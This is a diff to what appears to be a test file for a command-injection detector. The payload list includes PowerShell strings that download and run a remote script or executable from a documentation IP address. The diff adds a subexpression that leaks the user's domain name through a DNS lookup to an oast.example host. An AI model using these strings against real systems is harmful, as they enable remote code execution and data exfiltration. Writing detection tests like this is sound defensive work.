@@ -217,6 +217,8 @@ describe('command injection pack', () => {
     '& iwr http://198.51.100.7/p.ps1 | iex',
     '& Invoke-WebRequest -Uri http://198.51.100.7/a -OutFile a.exe',
     '; [System.Convert]::FromBase64String($p)',
+    // a subexpression calling .NET's network or process classes (a DNS lookup that leaks a name)
+    'x $([System.Net.Dns]::GetHostAddresses("$env:USERDOMAIN.p4.oast.example"))',
     // shell expansions only an evasion uses
     'echo $((1337+1))',
     ';echo $((a*b))',
